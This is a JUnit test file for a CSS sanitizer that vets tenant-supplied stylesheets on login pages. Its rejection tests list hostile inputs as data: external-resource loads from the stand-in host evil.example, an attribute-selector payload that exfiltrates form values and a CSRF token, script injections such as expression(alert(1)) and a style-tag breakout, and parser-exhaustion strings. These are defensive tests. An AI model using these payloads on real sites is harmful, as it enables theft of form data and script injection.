/* SPDX-License-Identifier: Apache-2.0 */
package org.lumoauth.authn.pages.tenantstyle;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeout;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class TenantStylesheetTest {

  private static String own(String source) throws StyleSheetException {
    String css = TenantStylesheet.read(source).css();
    assertTrue(css.startsWith(ProtectedSelectors.RULES), css);
    return css.substring(ProtectedSelectors.RULES.length());
  }

  private static void assertRefused(String source) {
    assertTrue(TenantStylesheet.objection(source).isPresent(), source);
  }

  @Test
  void rewritesParsedStylesheet() throws StyleSheetException {
    assertEquals(
        """
        .button.primary%s,
        .button:hover%s{background:linear-gradient(90deg,#fff 0%%,var(--brand));border-radius:4px;}
        """
            .formatted(ProtectedSelectors.GUARD, ProtectedSelectors.GUARD),
        own(
            "/* ours */ .button.primary , .button:hover { BACKGROUND : linear-gradient(90deg, #fff"
                + " 0%, var(--brand)) ; border-radius:4px }"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "body { background-color: #102030 }",
        "h1, h2 > .x ~ p + em { font-family: \"Fira Sans\", Georgia, serif; letter-spacing: 0.05em }",
        "input[type=\"email\"]:focus-visible { border: 2px solid rgb(1 2 3 / 40%) }",
        ".foot a:not(:hover, .x):nth-child(2n+1)::before { color: hsl(120, 50%, 50%) }",
        ".masthead { padding: 0.5rem 1rem; margin-block-end: 0; box-shadow: 0 2px 8px -1px #0003 }",
        "@media (min-width: 30rem) and (prefers-color-scheme: dark) { .foot { color: WHITE } }",
        "@media print { body { background: none } }",
        "body { background: radial-gradient(circle at top, #fff, transparent 60%) no-repeat }",
        "\tinput\r\n{ text-decoration: underline dotted currentcolor 1px; font-weight: 650 }",
      })
  void acceptsColourAndSpacingRules(String source) {
    assertEquals(Optional.empty(), TenantStylesheet.objection(source));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "'.a{color:red}\n  .b{display:none}' | Line 2, column 6: the property "
            + "display is not allowed.",
        "'.a{color:red;\n\ncolor:url(x)}' | Line 3, column 1: the value url(x) of "
            + "color is not allowed.",
        "'.a{color:red' | Line 1, column 12: the text is not valid CSS.",
        "'.a{}\n.b{co lor:red}' | Line 2, column 7: the text is not valid CSS.",
        "'.a{}\n$' | Line 2, column 1: the text is not valid CSS.",
        "'.a{}\n  `' | Line 2, column 3: the character ` is not allowed.",
        "'.a{}\n .b\\62{}' | Line 2, column 4: the character \\ is not allowed.",
        "'\n@import \"x\";' | Line 2, column 1: @import is not allowed.",
      })
  void reportsErrorPosition(String source, String reason) {
    assertEquals(Optional.of(reason), TenantStylesheet.objection(source));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        ".a{background:url(https://evil.example/x.png)}",
        ".a{background:url(//evil.example/x)}",
        ".a{background-image:URL(\"data:image/svg+xml,x\")}",
        ".a{background:image-set(\"https://evil.example/x\" 1x)}",
        ".a{background:cross-fade(url(x),url(y))}",
        ".a{background:image(\"https://evil.example/x\")}",
        ".a{background:src(\"https://evil.example/x\")}",
        ".a{background:element(#x)}",
        ".a{background:paint(x)}",
        ".a{cursor:url(https://evil.example/x),auto}",
        ".a{list-style-image:url(x)}",
        ".a{color:var(--x,url(https://evil.example/x))}",
        ".a{background:linear-gradient(red,url(x))}",
        "@import url(https://evil.example/x.css);",
        "@import 'https://evil.example/x.css' screen;",
        "@font-face{font-family:x;src:url(https://evil.example/x)}",
        "@namespace url(https://evil.example/);",
        "@charset \"utf-7\"; @import 'x';",
      })
  void rejectsExternalResources(String source) {
    assertRefused(source);
  }

  /**
   * What is typed or hidden in a form can be asked for by attribute selectors; there is nothing
   * that such a rule could fetch.
   */
  @Test
  void preventsInputExfiltrationByAttributeSelectors() {
    assertRefused("input[value^=\"a\"]{background:url(https://evil.example/a)}");
    assertRefused("input[name=\"csrf\"][value^=\"a\"]~*{background-image:url(//evil.example/a)}");
    assertEquals(Optional.empty(), TenantStylesheet.objection("input[value^=\"a\"]{color:red}"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        ".a{behavior:url(x.htc)}",
        ".a{-moz-binding:url(x)}",
        ".a{color:expression(alert(1))}",
        ".a{filter:progid:DXImageTransform.Microsoft.Alpha(opacity=0)}",
        ".a{color:javascript:alert(1)}",
        ".a{background:url(javascript:alert(1))}",
        "</style><script>alert(1)</script>",
        "<!-- .a{color:red} -->",
      })
  void rejectsActiveContent(String source) {
    assertRefused(source);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "display:none",
        "visibility:hidden",
        "opacity:0",
        "content:\"Yes\"",
        "position:absolute",
        "position:fixed",
        "inset:0",
        "top:-9999px",
        "transform:translate(9999px)",
        "translate:9999px",
        "scale:0",
        "rotate:180deg",
        "z-index:9",
        "float:left",
        "order:-1",
        "flex-direction:column-reverse",
        "grid-area:1/1",
        "width:0",
        "max-height:0",
        "inline-size:1px",
        "overflow:hidden",
        "clip-path:inset(50%)",
        "clip:rect(0,0,0,0)",
        "mask:linear-gradient(#000,#000)",
        "filter:opacity(0)",
        "backdrop-filter:blur(9px)",
        "mix-blend-mode:difference",
        "font-size:0",
        "font-size:1px",
        "font-size:0.1rem",
        "font-size:1%",
        "font-size:1em",
        "font:0/0 a",
        "line-height:0",
        "letter-spacing:-1em",
        "letter-spacing:9em",
        "word-spacing:9999px",
        "text-indent:-9999px",
        "margin:-100px",
        "margin-top:calc(-1 * 100px)",
        "margin-left:9999px",
        "padding:100vw",
        "padding:50%",
        "border-width:9999px",
        "box-shadow:0 0 0 9999px #fff",
        "box-shadow:0 -900px #fff",
        "direction:rtl",
        "unicode-bidi:bidi-override",
        "writing-mode:vertical-rl",
        "text-orientation:upright",
        "text-decoration:line-through",
        "zoom:0",
        "pointer-events:none",
        "user-select:none",
        "appearance:none",
        "all:unset",
        "color-scheme:dark",
        "animation:x 1s",
        "transition:all 1s",
        "counter-reset:x",
        "quotes:\"a\" \"b\"",
        "--ink:#fff",
        "--surface:#000",
        "text-shadow:0 0 9px #000",
        "background-clip:text",
        "-webkit-text-fill-color:transparent",
        "-webkit-text-security:disc",
        "color:red !important",
        "color:RED!IMPORTANT",
        "color:attr(data-x)",
        "color:env(x)",
        "padding:min(1px,2px)",
      })
  void rejectsHidingPositioningAndContentDeclarations(String declaration) {
    assertRefused(".a{" + declaration + "}");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        ".card::first-line{color:red}",
        ".card:first-line{color:red}",
        ".card::first-letter{color:red}",
        ".card:before{color:red}",
        "::selection{color:red}",
        "::marker{color:red}",
        "::backdrop{color:red}",
        "::part(x){color:red}",
        "::slotted(p){color:red}",
        ":host{color:red}",
        ":has(.fixed){color:red}",
        "p::before:hover{color:red}",
        ":not(p::before){color:red}",
        "a|b{color:red}",
        ".a{.b{color:red}}",
        ".a{& .b{color:red}}",
        ".a{color:red;@media print{color:blue}}",
        "@layer x{.a{color:red}}",
        "@layer x;",
        "@scope(.a){.b{color:red}}",
        "@supports(color:red){.a{color:red}}",
        "@container(min-width:1px){.a{color:red}}",
        "@keyframes x{from{color:red}}",
        "@page{margin:1cm}",
        "@property --ink{syntax:\"*\"}",
        "@media screen{@media print{.a{color:red}}}",
        "@media (color){.a{color:red}}",
        "@media tv{.a{color:red}}",
      })
  void rejectsOtherSelectorsAndRules(String source) {
    assertRefused(source);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {".a{col\\6fr:red}", ".\\61{color:red}", ".a{color:\\72 ed}", "@\\69mport 'x';"})
  void rejectsEscapedIdentifiers(String source) {
    assertRefused(source);
  }

  @ParameterizedTest
  @CsvSource({
    "'.fixed{color:red}', .fixed",
    "'.fixed .origin{color:red}', .fixed .origin",
    "'*{color:red}', *",
    "':not(.x){color:red}', :not(.x)",
    "'main.card.fixed>form#x[action]{color:red}', main.card.fixed>form#x[action]",
    "'body .lead *{color:red}', body .lead *",
  })
  void excludesProtectedPartsFromEverySelector(String source, String selector)
      throws StyleSheetException {
    assertEquals(selector + ProtectedSelectors.GUARD + "{color:red;}\n", own(source));
  }

  @Test
  void excludesProtectedPartsInMediaAndPseudoElements() throws StyleSheetException {
    assertEquals(
        "@media print{\n.a" + ProtectedSelectors.GUARD + "::before{color:red;}\n}\n",
        own("@media print{.a::before{color:red}}"));
  }

  @Test
  void rejectsOverlongOrDeeplyNestedStylesheet() {
    assertRefused("/*" + "x".repeat(64 * 1024) + "*/");
    assertRefused("/*" + "\u00e9".repeat(33 * 1024) + "*/");
    assertRefused(":not(".repeat(9) + "a" + ")".repeat(9) + "{color:red}");
    assertRefused("a{color:" + "rgb(".repeat(10_000));
  }

  @Test
  void limitsStylesheetToThousandSelectors() {
    String most = "a,".repeat(999) + "a{color:red}";
    assertEquals(Optional.empty(), TenantStylesheet.objection(most));
    assertRefused(most + "a{color:red}");
  }

  @ParameterizedTest
  @ValueSource(strings = {"a,", "a b ", "/*", "a{", "a{}", "((", ":not(a)", "\"", "@media ", "a:"})
  void parsesRepetitiveInputInBoundedTime(String part) {
    assertTimeout(
        Duration.ofSeconds(10),
        () -> TenantStylesheet.objection(part.repeat(64 * 1024 / part.length())),
        part);
  }

  @Test
  void removesComments() throws StyleSheetException {
    assertFalse(own("/* </style> */ .a{color:/*x*/red}".replace("<", "")).contains("/*"));
  }
}
